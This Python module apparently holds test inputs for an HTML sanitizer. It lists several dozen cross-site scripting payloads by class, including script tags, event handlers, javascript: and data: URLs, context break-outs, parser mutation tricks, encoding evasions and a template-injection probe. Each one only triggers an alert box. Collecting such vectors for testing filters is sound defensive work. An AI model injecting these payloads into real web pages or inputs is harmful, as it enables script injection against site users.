"""Forms in which a script tries to get out of a text, by class; of our own making."""

from __future__ import annotations

CLASSES: dict[str, tuple[str, ...]] = {
    "elements": (
        "<script>alert(1)</script>",
        "<SCRIPT/x>alert(1)</SCRIPT >",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=javascript:alert(1)//>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
        "<template><script>alert(1)</script></template>",
    ),
    "handlers": (
        "<img src=x onerror=alert(1)>",
        "<img/src='x'/onerror='alert(1)'/>",
        "<svg onload=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<a href=# onmouseover=alert(1)>",
        "<x style=animation-name:x onanimationstart=alert(1)>",
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "&#106;avascript&colon;alert(1)",
        "http://x.example/\"onclick=\"alert(1)",
    ),
    "breaking out": (
        "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</textarea></style><img src=x onerror=alert(1)>",
        "--><img src=x onerror=alert(1)><!--",
        "]]><script>alert(1)</script>",
        "</p><plaintext>",
        "`onerror=alert(1)`",
    ),
    "mutations": (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
        "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    ),
    "templates and encodings": (
        "{{ 7*191 }}{% raw %}${7*191}",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\ufeff<\u0000script>alert(1)</script>\u2028",
        "＜script＞alert(1)＜/script＞",
    ),
}  # fmt: skip
VECTORS = tuple(one for forms in CLASSES.values() for one in forms)
